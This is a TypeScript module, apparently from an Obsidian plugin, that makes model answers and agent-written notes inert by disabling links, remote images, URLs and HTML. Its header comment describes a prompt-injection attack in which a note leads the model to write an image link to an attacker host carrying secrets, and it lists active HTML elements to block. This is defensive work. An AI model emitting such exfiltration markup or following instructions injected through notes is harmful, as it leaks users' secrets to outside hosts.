// Model output (and note text quoted into an answer) is rendered as Markdown in Obsidian, where a remote image
// is fetched as soon as it is shown and HTML is live. A note that prompt-injects the model could make it write
// `![](https://attacker/?q=<secrets>)`: rendering that would send the secrets out. So answer text is made inert
// before rendering: HTML, images, embeds, Markdown links and bare URLs become plain text, and only `[[links]]`
// to notes that were gathered for the question stay live.

import { dropInvisible } from './neutralize';

export const MAX_ANSWER_LINE_CHARS = 2000;

export interface InertOptions {
  /** Lower-cased link targets that may stay live `[[links]]` (gathered notes); every other wikilink is unwrapped. */
  liveTargets?: ReadonlySet<string>;
}

const WIKILINK = /(!?)\[\[([^[\]|#\n]+)((?:#[^[\]|\n]*)?)(?:\|([^[\]\n]*))?\]\]/g;
/** `![alt](url)` and `[text](url)`, including `<url>` and titles; nested brackets one level deep. */
const MD_LINK = /(!?)\[((?:[^[\]\n]|\[[^[\]\n]*\])*)\]\(\s*(<[^>\n]*>|[^\s)]*)(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\)/g;
/** Reference-style definitions `[id]: url` turn later `[text][id]` into links. */
const MD_REF_DEF = /^\s{0,3}\[[^\]\n]+\]:\s*\S.*$/gm;
/** Anything with a URL scheme (`https:`, `javascript:`, `obsidian:`, `data:`…) or a `www.` host. */
const URLISH = /\b(?:[a-z][a-z0-9+.-]{1,31}:\/\/|(?:javascript|vbscript|data|obsidian|file|mailto):|www\.)[^\s<>"'`]*/gi;

export function inertMarkdown(text: string, options: InertOptions = {}): string {
  const live = options.liveTargets ?? new Set<string>();
  const placeholders: string[] = [];
  // Private-use marks around an index: text set aside that later rules must not touch.
  const hold = (s: string): string => `\ue000${placeholders.push(s) - 1}\ue001`;

  // Invisible characters go first (a zero-width space can split a scheme or a bracket from a parser's view of
  // it, and bidi overrides make a line read differently from what it says); then look-alikes are folded.
  let out = revealLookAlikes(dropInvisible(text).replace(/[\ue000\ue001]/g, ''));
  // Live wikilinks are set aside first so the rules below cannot touch them; embeds never stay embeds.
  out = out.replace(WIKILINK, (_whole, _bang: string, target: string, anchor: string, alias: string | undefined) => {
    const t = target.trim();
    const display = (alias ?? '').trim();
    if (live.has(t.toLowerCase()) || live.has(t.replace(/\.md$/i, '').toLowerCase())) {
      return hold(`[[${t}${anchor}${display ? `|${display.replace(/[[\]|]/g, ' ')}` : ''}]]`);
    }
    return display || t;
  });
  out = out.replace(MD_REF_DEF, '');
  // Repeated: a label may itself hold an image or link (`[![x](img)](url)`).
  for (let i = 0; i < 8; i++) {
    const next = out.replace(MD_LINK, (_whole, _bang: string, label: string) => label.trim());
    if (next === out) break;
    out = next;
  }
  // A URL that stays visible is shown as code: Obsidian neither links nor fetches inside a code span.
  // Folded and without backticks of any width, so it cannot close its code span early, even once normalized.
  out = out.replace(URLISH, (url) => hold(`\`${url.normalize('NFKC').replace(/`/g, '')}\``));
  out = escapeHtml(out);
  out = out
    .split('\n')
    .map((line) => (line.length > MAX_ANSWER_LINE_CHARS ? `${line.slice(0, MAX_ANSWER_LINE_CHARS)}…` : line))
    .join('\n');
  return out.replace(/\ue000(\d+)\ue001/g, (_m, i: string) => placeholders[Number(i)] ?? '');
}

/** How many live constructs (links, embeds, URLs, HTML, entities, reference definitions) a text holds. */
function markupCount(text: string): number {
  let n = 0;
  for (const re of [WIKILINK, MD_LINK, MD_REF_DEF, URLISH, /<[a-z/!?]/gi, /&#?[a-z0-9]+;/gi]) n += text.match(re)?.length ?? 0;
  return n;
}

/**
 * A line whose compatibility look-alikes (fullwidth `！［］（ｈｔｔｐｓ：／／…）`, `［［secret］］`, small forms `﹤`) spell
 * markup once folded to NFKC is folded, so the rules below see, and disarm, what any later normalization (a copy,
 * a search index, another renderer) would turn live. Other lines keep their own characters: CJK text keeps its
 * fullwidth punctuation.
 */
function revealLookAlikes(text: string): string {
  return text
    .split('\n')
    .map((line) => {
      const folded = line.normalize('NFKC');
      return folded !== line && markupCount(folded) > markupCount(line) ? folded : line;
    })
    .join('\n');
}

/**
 * HTML of any kind is shown as text: `<` that could open a tag, comment or declaration, and `&` that could start
 * an entity (which would decode to markup). Other `<`, `>` and `&` stay readable in plain-text output.
 */
export function escapeHtml(text: string): string {
  return text.replace(/&(?=#?[a-z0-9]+;)/gi, '&amp;').replace(/<(?=[a-z/!?])/gi, '&lt;');
}

/** Elements that load something the moment a note is shown, or run code. */
const ACTIVE_HTML = /<(?=\/?\s*(?:img|iframe|frame|video|audio|source|object|embed|script|link|style|svg|math|meta|base|form|input|picture|track)\b)/gi;

/**
 * For text an agent writes into a note (MCP write tools): the Markdown stays as written, but nothing in it may
 * load from the network when the note is shown. A remote image becomes a plain link (shown, not fetched) and
 * active HTML elements are shown as text. Vault images and embeds (`![[x.png]]`, `![](x.png)`) are untouched.
 */
export function withoutRemoteEmbeds(text: string): string {
  return text
    .replace(MD_LINK, (whole: string, bang: string, label: string, url: string) =>
      bang && isRemote(url) ? `[${label || 'image'}${whole.slice(2 + label.length)}` : whole,
    )
    .replace(ACTIVE_HTML, '&lt;');
}

function isRemote(url: string): boolean {
  const u = url.replace(/^<|>$/g, '').trim();
  return /^(?:[a-z][a-z0-9+.-]*:|\/\/)/i.test(u) && !/^app:\/\/obsidian\.md\//i.test(u);
}
